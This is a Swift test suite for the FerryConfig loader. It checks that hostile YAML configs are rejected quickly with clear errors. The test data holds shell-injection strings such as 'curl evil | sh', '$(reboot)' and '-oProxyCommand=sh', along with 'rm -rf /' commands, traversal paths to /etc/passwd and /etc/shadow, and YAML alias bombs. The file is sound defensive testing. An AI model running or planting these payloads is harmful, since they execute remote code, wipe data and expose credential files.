import Foundation
import Testing
@testable import FerryConfig

/// Hostile configs answer with clear errors, quickly, and never crash.
@Suite struct HostileConfigTests {
    private func timedLoad(_ repository: TestRepository) throws -> (ConfigLoadResult, Duration) {
        let clock = ContinuousClock()
        var result: ConfigLoadResult?
        let elapsed = try clock.measure { result = try repository.load() }
        return (try #require(result), elapsed)
    }

    @Test func shellMetacharactersInNamesAndCommands() throws {
        let repository = try TestRepository([
            "ferry.yaml": """
                hosts:
                  "web-1; curl evil | sh": { address: "10.0.0.5 -oProxyCommand=sh", user: "root$(id)" }
                  web-2: { address: 10.0.0.6, user: deploy }
                services:
                  "api`reboot`":
                    hosts: [web-2]
                    sources: ["api.py"]
                    run: { command: "python3 api.py" }
                  ok:
                    hosts: [web-2]
                    sources: ["api.py"]
                    run: { command: "python3 api.py; echo $(id) | tee /tmp/x" }
                    hooks: { post_deploy: ["./warm.sh\\nrm -rf /"] }
                """,
            "api.py": "",
        ])
        defer { repository.remove() }
        let (result, elapsed) = try timedLoad(repository)
        #expect(elapsed < .seconds(2))
        #expect(result.configuration == nil)
        #expect(result.errorSummaries == [
            "invalid_name ferry.yaml:2:3",
            "invalid_value ferry.yaml:2:39",
            "invalid_value ferry.yaml:2:75",
            "invalid_name ferry.yaml:5:3",
            "unsafe_command ferry.yaml:13:28",
        ])
        #expect(result.errors.first?.message.contains("not a valid host name") == true)
    }

    @Test func sourcesThatLeaveTheRepository() throws {
        let repository = try TestRepository([
            "ferry.yaml": minimalHosts + """
                services:
                  api:
                    hosts: [web-1]
                    sources: ["../../etc/passwd", "/etc/shadow", "src/../../x", "ok.py"]
                    run: { command: "python3 ok.py" }
                """,
            "ok.py": "",
        ])
        defer { repository.remove() }
        let (result, elapsed) = try timedLoad(repository)
        #expect(elapsed < .seconds(2))
        #expect(result.errors.map(\.kind) == [.unsafeSourcePattern, .unsafeSourcePattern, .unsafeSourcePattern])
    }

    @Test func aliasBombInAnIncludedFile() throws {
        var bomb = "x: &x [a,a,a,a,a,a,a,a,a,a]\n"
        for (index, level) in "bcdefghijk".enumerated() {
            let previous = index == 0 ? "x" : String(Array("bcdefghijk")[index - 1])
            bomb += "\(level): &\(level) [" + Array(repeating: "*\(previous)", count: 10).joined(separator: ",") + "]\n"
        }
        let repository = try TestRepository([
            "ferry.yaml": "include: [\"more.yaml\"]\n" + minimalHosts,
            "more.yaml": bomb,
        ])
        defer { repository.remove() }
        let (result, elapsed) = try timedLoad(repository)
        #expect(elapsed < .seconds(2))
        #expect(result.errors.map(\.kind) == [.tooManyNodes])
        #expect(result.errors.first?.location.file == "more.yaml")
    }

    @Test func fiftyMegabyteFileIsRefusedWithoutBeingRead() throws {
        let repository = try TestRepository()
        defer { repository.remove() }
        let url = repository.root.appendingPathComponent("ferry.yaml")
        FileManager.default.createFile(atPath: url.path, contents: nil)
        let handle = try FileHandle(forWritingTo: url)
        let line = Data(("# " + String(repeating: "x", count: 1_022) + "\n").utf8)
        let chunk = Data((0..<1_024).flatMap { _ in line })
        for _ in 0..<50 { try handle.write(contentsOf: chunk) }
        try handle.close()
        let (result, elapsed) = try timedLoad(repository)
        #expect(elapsed < .seconds(2))
        #expect(result.errors.map(\.kind) == [.fileTooLarge])
        #expect(result.errors.first?.message.contains("50 MiB") == true)
    }

    @Test func linkToAHugeFileIsRefusedBySizeFirst() throws {
        let repository = try TestRepository()
        defer { repository.remove() }
        let huge = repository.root.appendingPathComponent("generated/huge.yaml")
        try FileManager.default.createDirectory(at: huge.deletingLastPathComponent(), withIntermediateDirectories: true)
        FileManager.default.createFile(atPath: huge.path, contents: nil)
        let handle = try FileHandle(forWritingTo: huge)
        try handle.truncate(atOffset: 50 * 1024 * 1024)
        try handle.close()
        try repository.link("ferry.yaml", to: "generated/huge.yaml")
        let (result, elapsed) = try timedLoad(repository)
        #expect(elapsed < .seconds(2))
        #expect(result.errorSummaries == ["file_too_large ferry.yaml:1:1"])
    }

    @Test func everythingHostileAtOnceStillAnswersInTime() throws {
        let repository = try TestRepository([
            "ferry.yaml": """
                include: ["services/*.yaml", "../outside.yaml", "/etc/passwd"]
                hosts:
                  "$(reboot)": { address: 10.0.0.5, user: deploy }
                services:
                  api:
                    hosts: ["$(reboot)"]
                    sources: ["../../../../etc/**"]
                    remote_dir: /etc
                    run: { command: "rm -rf / \\u0007" }
                    env: { AWS_SECRET_ACCESS_KEY: AKIAXXXXXXXXXXXXXXXX }
                """,
            "services/bomb.yaml": "a: &a [" + String(repeating: "[x,x,x,x],", count: 10) + "x]\nb: [" + Array(repeating: "*a", count: 3_000).joined(separator: ",") + "]\n",
        ])
        defer { repository.remove() }
        let (result, elapsed) = try timedLoad(repository)
        #expect(elapsed < .seconds(2))
        let kinds = Set(result.errors.map(\.kind))
        #expect(kinds.isSuperset(of: [.unsafeSourcePattern, .invalidName, .unsafeRemoteDirectory, .unsafeCommand, .inlineSecret, .tooManyNodes]))
    }
}
